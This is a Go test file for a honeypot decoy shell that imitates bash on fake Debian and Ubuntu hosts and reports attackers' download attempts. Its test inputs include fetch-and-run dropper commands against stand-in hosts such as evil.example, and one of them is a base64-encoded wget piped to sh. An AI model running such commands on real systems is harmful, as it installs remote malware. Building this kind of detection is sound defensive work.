package shell

import (
	"bytes"
	"context"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

var testSeed = []byte("decnet shell decoy test seed 001")

var testNow = time.Date(2026, 12, 4, 23, 50, 4, 0, time.UTC)

func newTest(t *testing.T, user string) *Shell {
	t.Helper()
	return newShell(Config{Seed: testSeed, Hostname: "web01", User: user}, func() time.Time { return testNow })
}

func run(t *testing.T, sh *Shell, line string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	st := sh.Exec(context.Background(), line, &out, &errb)
	return out.String(), errb.String(), st
}

func TestExecExactOutputs(t *testing.T) {
	sh := newTest(t, "root")
	k := sh.host.kernel
	for _, tc := range []struct {
		line, out, err string
		status         int
	}{
		{"foo", "", "bash: line 1: foo: command not found\n", 127},
		{"ifconfig", "", "bash: line 1: ifconfig: command not found\n", 127},
		{"busybox", "", "bash: line 1: busybox: command not found\n", 127},
		{"cd /x", "", "bash: line 1: cd: /x: No such file or directory\n", 1},
		{"cd /etc/passwd", "", "bash: line 1: cd: /etc/passwd: Not a directory\n", 1},
		{"cd a b", "", "bash: line 1: cd: too many arguments\n", 1},
		{"cat /etc", "", "cat: /etc: Is a directory\n", 1},
		{"cat /nope", "", "cat: /nope: No such file or directory\n", 1},
		{"ls /nope", "", "ls: cannot access '/nope': No such file or directory\n", 2},
		{"mkdir /tmp", "", "mkdir: cannot create directory \u2018/tmp\u2019: File exists\n", 1},
		{"rm /nope", "", "rm: cannot remove '/nope': No such file or directory\n", 1},
		{"echo a > /nope/x", "", "bash: line 1: /nope/x: No such file or directory\n", 1},
		{"touch /nope/x", "", "touch: cannot touch '/nope/x': No such file or directory\n", 1},
		{"cp /nope /tmp", "", "cp: cannot stat '/nope': No such file or directory\n", 1},
		{"chmod 777 /nope", "", "chmod: cannot access '/nope': No such file or directory\n", 1},
		{"uname -z", "", "uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n", 1},
		{"ls -z", "", "ls: invalid option -- 'z'\nTry 'ls --help' for more information.\n", 2},
		{"head -n", "", "head: option requires an argument -- 'n'\nTry 'head --help' for more information.\n", 1},
		{"grep", "", "Usage: grep [OPTION]... PATTERNS [FILE]...\nTry 'grep --help' for more information.\n", 2},
		{"sleep", "", "sleep: missing operand\nTry 'sleep --help' for more information.\n", 1},
		{"| foo", "", "bash: -c: line 1: syntax error near unexpected token `|'\nbash: -c: line 1: `| foo'\n", 2},
		{"ls ;; x", "", "bash: -c: line 1: syntax error near unexpected token `;;'\nbash: -c: line 1: `ls ;; x'\n", 2},
		{"echo 'abc", "", "bash: -c: line 1: unexpected EOF while looking for matching `''\n", 2},
		{"echo |", "", "bash: -c: line 2: syntax error: unexpected end of file\n", 2},
		{"crontab -l", "", "no crontab for root\n", 1},
		{"id", "uid=0(root) gid=0(root) groups=0(root)\n", "", 0},
		{"whoami; hostname; pwd", "root\nweb01\n/root\n", "", 0},
		{"echo -e 'a\\tb' -n", "a\tb -n\n", "", 0},
		{"echo -n hi", "hi", "", 0},
		{"echo $((1+2))", "3\n", "", 0},
		{"export A=1; echo $A", "1\n", "", 0},
		{"echo $HOME $USER", "/root root\n", "", 0},
		{"false; echo $?", "1\n", "", 0},
		{"foo 2>/dev/null; echo $?", "127\n", "", 0},
		{"true && echo yes || echo no", "yes\n", "", 0},
		{"false && echo yes || echo no", "no\n", "", 0},
		{"echo \"a  b\" 'c  d' e\\ f", "a  b c  d e f\n", "", 0},
		{"echo $(echo inner) `echo tick`", "inner tick\n", "", 0},
		{"which ls", "/usr/bin/ls\n", "", 0},
		{"which nope", "", "", 1},
		{"type ls", "ls is /usr/bin/ls\n", "", 0},
		{"wc -l /etc/passwd", "23 /etc/passwd\n", "", 0},
		{"cat /etc/passwd | head -n 2", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", "", 0},
		{"cat /etc/passwd | grep sshd | cut -d: -f1,7", "sshd:/usr/sbin/nologin\n", "", 0},
		{"cat /etc/passwd | awk -F: '{print $1}' | sort | head -3", "_apt\nbackup\nbin\n", "", 0},
		{"printf 'b\\na\\nb\\n' | sort | uniq -c", "      1 a\n      2 b\n", "", 0},
		{"uname -a", "Linux web01 " + k.abi + " #1 SMP PREEMPT_DYNAMIC Debian " + k.version + " (" + k.date + ") x86_64 GNU/Linux\n", "", 0},
		{"uname -r", k.abi + "\n", "", 0},
		{"uname", "Linux\n", "", 0},
		{"uname -m", "x86_64\n", "", 0},
		{"uname -n -s", "Linux web01\n", "", 0},
		{"cat /proc/version", "Linux version " + k.abi + " (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14+deb12u1) 12.2.0, GNU ld (GNU Binutils for Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian " + k.version + " (" + k.date + ")\n", "", 0},
		{"cat /etc/debian_version", "12.15\n", "", 0},
		{"for i in a b; do echo $i; done", "a\nb\n", "", 0},
		{"for f in /etc/host*; do echo $f; done | head -1", "/etc/hostname\n", "", 0},
		{"if [ -d /tmp ]; then echo dir; else echo no; fi", "dir\n", "", 0},
		{"if test -f /nope; then echo f; elif [ 1 -lt 2 ]; then echo lt; fi", "lt\n", "", 0},
		{"i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done", "1\n2\n3\n", "", 0},
		{"{ echo a; echo b; } | wc -l", "2\n", "", 0},
		{"(cd /tmp; pwd); pwd", "/tmp\n/root\n", "", 0},
		{"done", "", "bash: -c: line 1: syntax error near unexpected token `done'\nbash: -c: line 1: `done'\n", 2},
		{"for i in a; do echo", "", "bash: -c: line 2: syntax error: unexpected end of file\n", 2},
		{"[ 1 = 1", "", "bash: line 1: [: missing `]'\n", 2},
		{"sh -c 'foo'", "", "sh: 1: foo: not found\n", 127},
		{"sh -c 'cd /x'", "", "sh: 1: cd: can't cd to /x\n", 2},
		{"sh -c 'echo \"a'", "", "sh: 1: Syntax error: Unterminated quoted string\n", 2},
		{"echo a\nfoo", "a\n", "bash: line 2: foo: command not found\n", 127},
		{"echo a\n| b", "a\n", "bash: -c: line 2: syntax error near unexpected token `|'\nbash: -c: line 2: `| b'\n", 2},
		{"printf 'echo a\\nfoo\\n' > /tmp/s.sh; bash /tmp/s.sh; sh /tmp/s.sh", "a\na\n", "/tmp/s.sh: line 2: foo: command not found\n/tmp/s.sh: 2: foo: not found\n", 127},
		{"exit 3", "", "", 3},
	} {
		t.Run(tc.line, func(t *testing.T) {
			out, errs, st := run(t, sh, tc.line)
			if out != tc.out || errs != tc.err || st != tc.status {
				t.Errorf("%q:\n got out=%q err=%q status=%d\nwant out=%q err=%q status=%d", tc.line, out, errs, st, tc.out, tc.err, tc.status)
			}
		})
	}
}

func TestOverlay(t *testing.T) {
	sh := newTest(t, "root")
	out, errs, st := run(t, sh, "cd /tmp && mkdir x && echo hello > x/f && echo more >> x/f && cat x/f && cp x/f g && mv g h && ls && rm -r x && ls")
	if out != "h\nx\nhello\nmore\n"[:0]+"hello\nmore\nh\nx\nh\n" || errs != "" || st != 0 {
		t.Fatalf("got out=%q err=%q st=%d", out, errs, st)
	}
	// A new session starts from the pristine tree.
	other := newTest(t, "root")
	if _, errs, _ := run(t, other, "cat /tmp/h"); errs != "cat: /tmp/h: No such file or directory\n" {
		t.Fatalf("overlay leaked between sessions: %q", errs)
	}
}

func TestNonRoot(t *testing.T) {
	sh := newTest(t, "admin")
	for _, tc := range []struct{ line, out, err string }{
		{"cat /etc/shadow", "", "cat: /etc/shadow: Permission denied\n"},
		{"cd /root", "", "bash: line 1: cd: /root: Permission denied\n"},
		{"whoami", "admin\n", ""},
		{"pwd", "/home/admin\n", ""},
		{"touch /etc/x", "", "touch: cannot touch '/etc/x': Permission denied\n"},
	} {
		out, errs, _ := run(t, sh, tc.line)
		if out != tc.out || errs != tc.err {
			t.Errorf("%q: got out=%q err=%q, want out=%q err=%q", tc.line, out, errs, tc.out, tc.err)
		}
	}
}

func TestStructure(t *testing.T) {
	sh := newTest(t, "root")
	check := func(line string, wantLines int, prefix ...string) []string {
		t.Helper()
		out, errs, st := run(t, sh, line)
		if errs != "" || st != 0 {
			t.Fatalf("%q: err=%q st=%d", line, errs, st)
		}
		ls := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if wantLines > 0 && len(ls) != wantLines {
			t.Fatalf("%q: %d lines, want %d:\n%s", line, len(ls), wantLines, out)
		}
		for i, p := range prefix {
			if !strings.HasPrefix(ls[i], p) {
				t.Errorf("%q line %d = %q, want prefix %q", line, i, ls[i], p)
			}
		}
		return ls
	}
	check("free", 3, "               total        used        free      shared  buff/cache   available", "Mem:   ", "Swap:              0           0           0")
	check("free -h", 3, "               total", "Mem:", "Swap:             0B          0B          0B")
	check("df -h", 7, "Filesystem      Size  Used Avail Use% Mounted on", "udev")
	check("ps aux", 0, "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND", "root           1  0.")
	check("ps -ef", 0, "UID          PID    PPID  C STIME TTY          TIME CMD", "root           1       0  0 ")
	check("ip a", 0, "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000")
	check("ip r", 2, "default via ")
	check("nproc", 1)
	check("dpkg -l", 0, "Desired=Unknown/Install/Remove/Purge/Hold")
	out, _, _ := run(t, sh, "dpkg -l | grep -E 'openssh-server|linux-image'")
	k := sh.host.kernel
	for _, want := range []string{"openssh-server", "1:9.2p1-2+deb12u10", "linux-image-" + k.abi, k.version} {
		if !strings.Contains(out, want) {
			t.Errorf("dpkg -l lacks %q:\n%s", want, out)
		}
	}
	ls := check("ls -la /root", 0, "total ", "drwx------ ")
	if !strings.Contains(strings.Join(ls, "\n"), ".bash_history") {
		t.Errorf("ls -la /root lacks .bash_history:\n%s", strings.Join(ls, "\n"))
	}
}

func TestSeedVaries(t *testing.T) {
	a := newShell(Config{Seed: []byte("seed number one for the decky 01")}, func() time.Time { return testNow })
	b := newShell(Config{Seed: []byte("seed number two for the decky 02")}, func() time.Time { return testNow })
	if a.host.hostname == b.host.hostname && a.host.macString() == b.host.macString() {
		t.Fatal("two seeds gave the same host")
	}
	a2 := newShell(Config{Seed: []byte("seed number one for the decky 01")}, func() time.Time { return testNow })
	if a.host.macString() != a2.host.macString() || a.host.kernel != a2.host.kernel || a.host.memKiB != a2.host.memKiB {
		t.Fatal("one seed gave two hosts")
	}
}

func TestFetchReported(t *testing.T) {
	var got []*eventv1.DownloadRequested
	sh := newShell(Config{Seed: testSeed, OnDownload: func(d *eventv1.DownloadRequested) { got = append(got, d) }}, func() time.Time { return testNow })
	_, errs, st := run(t, sh, "wget http://evil.example/x.sh")
	want := "--2026-12-04 23:50:04--  http://evil.example/x.sh\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address \u2018evil.example\u2019\n"
	if st != 4 || errs != want {
		t.Fatalf("wget: st=%d err=%q, want %q", st, errs, want)
	}
	_, errs, st = run(t, sh, "curl -sSO http://evil.example/y")
	if st != 6 || errs != "curl: (6) Could not resolve host: evil.example\n" {
		t.Fatalf("curl: st=%d err=%q", st, errs)
	}
	if len(got) != 2 || got[0].Url != "http://evil.example/x.sh" || got[0].Tool != "wget" || got[0].Outcome != "not_fetched" || got[1].Tool != "curl" {
		t.Fatalf("events = %v", got)
	}

	sh = newShell(Config{Seed: testSeed, Fetch: func(_ context.Context, tool, url string) FetchResult {
		return FetchResult{Outcome: "fetched", Size: 1234, SHA256: make([]byte, 32)}
	}}, func() time.Time { return testNow })
	if _, _, st := run(t, sh, "cd /tmp; wget -q http://h.example/bot; chmod +x bot; ./bot"); st != 0 {
		t.Fatalf("fetched run status %d", st)
	}
	out, _, _ := run(t, sh, "ls -l /tmp/bot")
	if !strings.HasPrefix(out, "-rwxr-xr-x 1 root root 1234 ") {
		t.Fatalf("ls of fetched file = %q", out)
	}
}

func TestTftpAndBase64(t *testing.T) {
	var got []*eventv1.DownloadRequested
	sh := newShell(Config{Seed: testSeed, OnDownload: func(d *eventv1.DownloadRequested) { got = append(got, d) }}, func() time.Time { return testNow })
	// "wget http://h.example/a" in base64, run through sh as droppers do.
	out, errs, st := run(t, sh, "echo d2dldCBodHRwOi8vaC5leGFtcGxlL2EK | base64 -d | sh; tftp -g -r bins/x 192.0.2.9")
	if out != "" || st != 127 || !strings.HasSuffix(errs, "bash: line 1: tftp: command not found\n") {
		t.Fatalf("out=%q err=%q st=%d", out, errs, st)
	}
	if len(got) != 2 || got[0].Url != "http://h.example/a" || got[1].Url != "tftp://192.0.2.9/bins/x" || got[1].Tool != "tftp" {
		t.Fatalf("events = %v", got)
	}
}

func TestLscpuAgreesWithNproc(t *testing.T) {
	sh := newTest(t, "root")
	out, _, _ := run(t, sh, "lscpu | grep '^CPU(s):' | awk '{print $2}'; nproc; grep -c processor /proc/cpuinfo")
	ls := strings.Fields(out)
	if len(ls) != 3 || ls[0] != ls[1] || ls[1] != ls[2] {
		t.Fatalf("cpu counts disagree: %q", out)
	}
}

// scripted feeds bytes to Interactive and collects what it writes.
type scripted struct {
	in  io.Reader
	out bytes.Buffer
}

func (s *scripted) Read(p []byte) (int, error)  { return s.in.Read(p) }
func (s *scripted) Write(p []byte) (int, error) { return s.out.Write(p) }

func TestInteractive(t *testing.T) {
	sh := newTest(t, "root")
	var cmds []string
	sh.cfg.OnCommand = func(l string) { cmds = append(cmds, l) }
	term := &scripted{in: strings.NewReader("ecoh\x7f\x7fho hi\r\n\x1b[Afoo\r\x03cd /tmp\rpwd\nexit\r")}
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "root@web01:~# ecoh\b \b\b \bho hi\r\nhi\r\nroot@web01:~# foo\r\n-bash: foo: command not found\r\nroot@web01:~# ^C\r\nroot@web01:~# cd /tmp\r\nroot@web01:/tmp# pwd\r\n/tmp\r\nroot@web01:/tmp# exit\r\nlogout\r\n"
	if got := term.out.String(); got != want {
		t.Fatalf("transcript:\n got %q\nwant %q", got, want)
	}
	if strings.Join(cmds, "|") != "echo hi|foo|cd /tmp|pwd|exit" {
		t.Fatalf("commands = %q", cmds)
	}
}

// TestInteractiveLsColumns compares with GNU ls 9.1 on an 80-column
// pty listing the same names, tab included.
func TestInteractiveLsColumns(t *testing.T) {
	sh := newTest(t, "root")
	term := &scripted{in: strings.NewReader("ls /\r")}
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "root@web01:~# ls /\r\nbin   dev  home        lib    media  opt   root  sbin  sys  usr  vmlinuz\r\nboot  etc  initrd.img  lib64  mnt    proc  run\t srv   tmp  var\r\nroot@web01:~# "
	if got := term.out.String(); got != want {
		t.Fatalf("transcript:\n got %q\nwant %q", got, want)
	}
}

func TestInteractiveEOFAndContinuation(t *testing.T) {
	sh := newTest(t, "admin")
	term := &scripted{in: strings.NewReader("echo 'a\rb'\r\x04")}
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "admin@web01:~$ echo 'a\r\n> b'\r\na\r\nb\r\nadmin@web01:~$ logout\r\n"
	if got := term.out.String(); got != want {
		t.Fatalf("transcript:\n got %q\nwant %q", got, want)
	}
}

// chunkTerm returns one chunk per Read, each when the test releases it.
type chunkTerm struct {
	chunks [][]byte
	ready  chan struct{}
	out    bytes.Buffer
	mu     sync.Mutex
}

func (c *chunkTerm) Read(p []byte) (int, error) {
	if len(c.chunks) == 0 {
		return 0, io.EOF
	}
	<-c.ready
	n := copy(p, c.chunks[0])
	c.chunks = c.chunks[1:]
	return n, nil
}

func (c *chunkTerm) Write(p []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.out.Write(p)
}

func TestInterruptRunningCommand(t *testing.T) {
	sh := newTest(t, "root")
	term := &chunkTerm{chunks: [][]byte{[]byte("sleep 100\r"), {0x03}, []byte("echo $?\r")}, ready: make(chan struct{}, 3)}
	started := make(chan struct{})
	sh.cfg.OnCommand = func(l string) {
		if l == "sleep 100" {
			close(started)
		}
	}
	term.ready <- struct{}{}
	go func() {
		<-started
		// OnCommand runs just before the command; the pause lets sleep
		// begin waiting, so the ^C interrupts a running command rather
		// than racing its start.
		time.Sleep(50 * time.Millisecond)
		term.ready <- struct{}{}
		term.ready <- struct{}{}
	}()
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "root@web01:~# sleep 100\r\n^C\r\nroot@web01:~# echo $?\r\n130\r\nroot@web01:~# "
	if got := term.out.String(); got != want {
		t.Fatalf("transcript:\n got %q\nwant %q", got, want)
	}
}

func TestInteractiveEOFInsideQuote(t *testing.T) {
	sh := newTest(t, "root")
	term := &scripted{in: strings.NewReader("echo 'a\r\x04")}
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "root@web01:~# echo 'a\r\n> -bash: unexpected EOF while looking for matching `''\r\nlogout\r\n"
	if got := term.out.String(); got != want {
		t.Fatalf("transcript:\n got %q\nwant %q", got, want)
	}
}

func TestMotd(t *testing.T) {
	sh := newTest(t, "root")
	k := sh.host.kernel
	got := sh.Motd(testNow, time.Date(2026, 12, 3, 9, 5, 7, 0, time.UTC), "10.0.0.5")
	want := "Linux web01 " + k.abi + " #1 SMP PREEMPT_DYNAMIC Debian " + k.version + " (" + k.date + ") x86_64\n" + debianFreeSoftware + "Last login: Thu Dec  3 09:05:07 2026 from 10.0.0.5\n"
	if got != want {
		t.Fatalf("motd:\n got %q\nwant %q", got, want)
	}
}

func TestUbuntuPersona(t *testing.T) {
	sh := newShell(Config{Seed: testSeed, OS: OSUbuntu2404, Hostname: "u1"}, func() time.Time { return testNow })
	out, _, _ := run(t, sh, "cat /etc/os-release | head -1; uname -r")
	if !strings.HasPrefix(out, "PRETTY_NAME=\"Ubuntu 24.04") || !strings.Contains(out, "-generic\n") {
		t.Fatalf("ubuntu persona: %q", out)
	}
	k := sh.host.kernel
	out, _, _ = run(t, sh, "uname -a")
	if !strings.HasSuffix(out, " x86_64 x86_64 x86_64 GNU/Linux\n") {
		t.Errorf("uname -a = %q", out)
	}
	out, _, _ = run(t, sh, "dpkg -l 'linux-image*' | tail -2 | awk '{print $2, $3}'")
	if want := "linux-image-" + k.abi + " " + k.version + "\nlinux-image-generic " + k.version + "\n"; out != want {
		t.Errorf("kernel packages = %q, want %q", out, want)
	}
}

func TestWorkBounded(t *testing.T) {
	sh := newTest(t, "root")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if st := progSleep(sh, &call{ctx: ctx, name: "sleep", args: []string{"100"}, out: io.Discard, err: io.Discard}); st != 130 {
		t.Fatalf("sleep under a cancelled context returned %d", st)
	}
	// A script that runs itself stops at the nesting cap.
	sh = newTest(t, "root")
	_, _, _ = run(t, sh, "echo 'sh /tmp/s' > /tmp/s; sh /tmp/s")
	if sh.depth != 0 {
		t.Fatalf("depth left at %d", sh.depth)
	}
}

// Ubuntu's uname prints the kernel's upload number after "#", which can
// differ from its ABI number (6.8.0-86 is upload 87).
func TestUbuntuKernelStrings(t *testing.T) {
	seen := map[string]bool{}
	for i := range 64 {
		seed := []byte("ubuntu kernel seed " + string(rune('a'+i%26)) + string(rune('a'+i/26)))
		sh := newShell(Config{OS: OSUbuntu2404, Seed: seed, Hostname: "app01", User: "root"}, func() time.Time { return testNow })
		k := sh.host.kernel
		seen[k.abi] = true
		upload := ubuntuUpload(k)
		abiNum := strings.TrimSuffix(strings.TrimPrefix(k.abi, "6.8.0-"), "-generic")
		if !strings.HasPrefix(k.version, "6.8.0-"+abiNum+".") || upload == "" {
			t.Fatalf("kernel %q version %q upload %q", k.abi, k.version, upload)
		}
		wantUname := "Linux app01 " + k.abi + " #" + upload + "-Ubuntu SMP PREEMPT_DYNAMIC " + k.date + " x86_64 x86_64 x86_64 GNU/Linux\n"
		if out, _, _ := run(t, sh, "uname -a"); out != wantUname {
			t.Errorf("uname -a = %q, want %q", out, wantUname)
		}
		wantProc := "Linux version " + k.abi + " (buildd@lcy02-amd64-041) (x86_64-linux-gnu-gcc-13 (Ubuntu 13.3.0-6ubuntu2~24.04.1) 13.3.0, GNU ld (GNU Binutils for Ubuntu) 2.42) #" + upload + "-Ubuntu SMP PREEMPT_DYNAMIC " + k.date + "\n"
		if out, _, _ := run(t, sh, "cat /proc/version"); out != wantProc {
			t.Errorf("/proc/version = %q, want %q", out, wantProc)
		}
	}
	if got := ubuntuUpload(kernelBuild{version: "6.8.0-86.87"}); got != "87" {
		t.Errorf("upload of 6.8.0-86.87 = %q, want 87", got)
	}
	if len(seen) < 3 {
		t.Errorf("64 seeds picked only %d kernels", len(seen))
	}
}
